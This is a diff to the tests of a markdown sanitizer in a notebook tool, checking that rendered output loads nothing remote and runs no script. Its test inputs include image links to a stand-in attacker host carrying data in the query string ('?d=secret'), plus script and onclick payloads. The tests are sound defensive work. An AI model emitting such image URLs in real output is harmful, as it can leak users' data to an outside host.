@@ -79,6 +79,8 @@ def assert_safe(html: str, *, allowed_tags: set[str] = ALLOWED_TAGS) -> Collecto
                 assert tag in ("td", "th") and re.fullmatch(r"text-align:\s*(left|right|center)", value or ""), (tag, value)
             if name in ("href", "src", "action", "formaction", "xlink:href"):
                 url = (value or "").strip().lower()
+                if tag == "img" and re.fullmatch(r"data:image/(png|jpeg|gif|webp);base64,[a-z0-9+/=]*", url):
+                    continue  # inline raster data: drawn, loads nothing
                 assert "javascript:" not in url, (tag, name, value)
                 assert not url.startswith(("data:", "vbscript:")), (tag, name, value)
                 assert url.startswith(("http://", "https://", "mailto:")), (tag, name, value)
@@ -99,10 +101,9 @@ def test_all_hostile_snippets_together() -> None:
     # Raw HTML is escaped, so the would-be tags are shown as text rather than dropped silently.
     assert "<script>alert(1)</script>" in doc.text
     assert '<div onclick="alert(1)">click me</div>' in doc.text
-    # The data: image keeps its alt text but loses its source.
+    # The inline PNG stays (it loads nothing); no other image survives.
     imgs = [attrs for tag, attrs in doc.tags if tag == "img"]
-    assert imgs and all("src" not in attrs for attrs in imgs)
-    assert any(attrs.get("alt") == "pic" for attrs in imgs)
+    assert imgs == [{"src": "data:image/png;base64,iVBORw0KGgo=", "alt": "pic"}]
     # No link survived at all: none of them pointed anywhere safe.
     assert not [attrs for tag, attrs in doc.tags if tag == "a" and "href" in attrs]
 
@@ -139,14 +140,14 @@ def test_benign_markdown_renders_to_expected_tags() -> None:
     html = markdown_to_html(text)
     doc = assert_safe(html)
     tags = [t for t, _ in doc.tags]
-    for expected in ("h1", "h2", "strong", "em", "code", "s", "pre", "table", "thead", "tbody", "tr", "th", "td", "ul", "ol", "li", "blockquote", "a", "img"):
+    for expected in ("h1", "h2", "strong", "em", "code", "s", "pre", "table", "thead", "tbody", "tr", "th", "td", "ul", "ol", "li", "blockquote", "a"):
         assert expected in tags, (expected, html)
-    attrs = {t: a for t, a in doc.tags if t in ("a", "img", "ol")}
+    attrs = {t: a for t, a in doc.tags if t in ("a", "ol")}
     links = [a for t, a in doc.tags if t == "a"]
     assert links[0]["href"] == "https://example.com/docs?q=1&r=2"
     assert links[1]["href"] == "mailto:a@example.com"
-    assert all(a.get("rel") == "noopener noreferrer" for a in links)
-    assert attrs["img"] == {"src": "https://example.com/logo.png", "alt": "logo"}
+    assert all(a.get("rel") == "noopener noreferrer nofollow" and a.get("referrerpolicy") == "no-referrer" for a in links)
+    assert links[2]["href"] == "https://example.com/logo.png" and "img" not in tags  # a remote image is a link
     assert attrs["ol"] == {"start": "3"}
     assert ("code", {"class": "language-python"}) in doc.tags
     # Column alignment survives sanitizing (markdown-it writes it as a style).
@@ -229,3 +230,47 @@ def test_style_block_is_only_css() -> None:
     doc = parse(STYLE)
     assert [t for t, _ in doc.tags] == ["style"]
     assert "<" not in STYLE.removeprefix("<style>").removesuffix("</style>")
+
+
+# -- inert output: rendering never loads anything (issue 11) --------------------------------------
+
+PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
+
+
+@pytest.mark.parametrize("markdown, href", [
+    ("![x](http://evil.example/a.png?d=secret)", "http://evil.example/a.png?d=secret"),
+    ("![x](https://evil.example/a.png)", "https://evil.example/a.png"),
+    ("![x](//evil.example/p.png)", "//evil.example/p.png"),
+    ("![x](/api/contents?x=1)", "/api/contents?x=1"),
+    ("![x](rel/a.png)", "rel/a.png"),
+    ("![x][r]\n\n[r]: http://evil.example/ref.png", "http://evil.example/ref.png"),
+])
+def test_every_image_but_inline_raster_data_becomes_a_link(markdown, href):
+    from ipyagent.notebook.render import markdown_to_html
+
+    html = markdown_to_html(markdown)
+    assert "<img" not in html
+    assert f'<a href="{href.replace("&", "&amp;")}" class="ipyagent-image-link"' in html
+    assert 'referrerpolicy="no-referrer"' in html and 'rel="noopener noreferrer nofollow"' in html
+
+
+def test_inline_raster_images_stay_and_svg_does_not():
+    from ipyagent.notebook.render import markdown_to_html
+
+    assert f'<img src="{PNG}" alt="dot">' in markdown_to_html(f"![dot]({PNG})")
+    assert "<img" not in markdown_to_html("![s](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)")
+
+
+def test_links_send_no_referrer_and_sanitized_html_loads_no_image():
+    from ipyagent.notebook.render import markdown_to_html, sanitize
+
+    assert markdown_to_html("[a](https://example.org/)") == (
+        '<p><a href="https://example.org/" referrerpolicy="no-referrer" rel="noopener noreferrer nofollow">a</a></p>\n')
+    cleaned = sanitize(f'<img src="http://evil/a.png"><img src="//evil/b.png"><img src="{PNG}"><a href="data:text/html,x">d</a>')
+    assert cleaned == f'<img><img><img src="{PNG}"><a rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">d</a>'
+
+
+def test_the_markdown_fallback_has_no_image_to_load():
+    from ipyagent.notebook.transcript_render import inert
+
+    assert inert("see ![x](http://evil/a.png) and ![r][ref]") == "see !\\[x](http://evil/a.png) and !\\[r][ref]"
